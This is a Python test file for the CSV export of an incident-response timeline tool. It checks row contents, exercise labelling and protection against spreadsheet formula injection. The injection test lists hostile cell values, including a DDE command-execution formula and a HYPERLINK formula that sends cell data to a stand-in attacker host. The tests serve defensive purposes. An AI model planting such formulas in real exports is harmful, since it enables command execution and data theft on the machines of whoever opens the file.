"""The timeline as CSV."""

import csv
import io
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from breachplay.plain import storable
from breachplay.timeline.table import COLUMNS, as_csv, cell

from .made import NOW, Made, small_run


def rows(made: Made) -> list[dict[str, str]]:
    text = as_csv(made.state, made.events, now=NOW)
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_one_line_for_each_event() -> None:
    made = small_run()
    found = rows(made)
    assert [row["seq"] for row in found] == [str(event.seq) for event in made.events]
    assert found[4] == {
        "mode": "LIVE INCIDENT",
        "seq": "5",
        "utc": "2026-03-29 00:45:00 UTC",
        "local": "2026-03-29 01:45:00 CET",
        "happened_at": "",
        "exercise_at": "",
        "name": "Sam Sample",
        "role": "communicator",
        "kind": "item_skipped",
        "what": 'Skipped the critical item "Employees told first": Mail is down; Lee Legal agreed',
        "body": json.dumps(made.events[4].body, sort_keys=True),
        "command": "c5",
        "prev": made.events[4].prev,
        "hash": made.events[4].hash,
    }


def test_an_exercise_says_so_in_every_line() -> None:
    assert {row["mode"] for row in rows(small_run("exercise"))} == {"EXERCISE"}


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|' /C calc'!A0",
        "-2+3",
        "+1",
        "@SUM(1+1)",
        "\t=1+1",
        "\n=1+1",
        '=HYPERLINK("https://evil.example?x="&A1,"ok")',
        "\uff1d1+1",
    ],
)
def test_no_cell_computes(text: str) -> None:
    assert cell(text).startswith("'")
    made = Made()
    made.actor = made.actor.__class__(text, text)
    for row in rows(made.opened()):
        assert row["name"] == row["role"] == cell(text)


@settings(deadline=None)
@given(st.text())
def test_no_text_opens_a_cell_or_a_line(text: str) -> None:
    made = Made().opened().add("note_added", {"text": storable(text)})
    exported = as_csv(made.state, made.events, now=NOW)
    assert len(exported.splitlines()) == 5
    for line in csv.reader(io.StringIO(exported, newline="")):
        assert len(line) == len(COLUMNS)


def test_a_body_can_be_read_back() -> None:
    made = Made().opened().add("note_added", {"text": 'a",\n=1+1,"b\u2028'})
    assert json.loads(rows(made)[-1]["body"]) == {"text": 'a",\n=1+1,"b\u2028'}
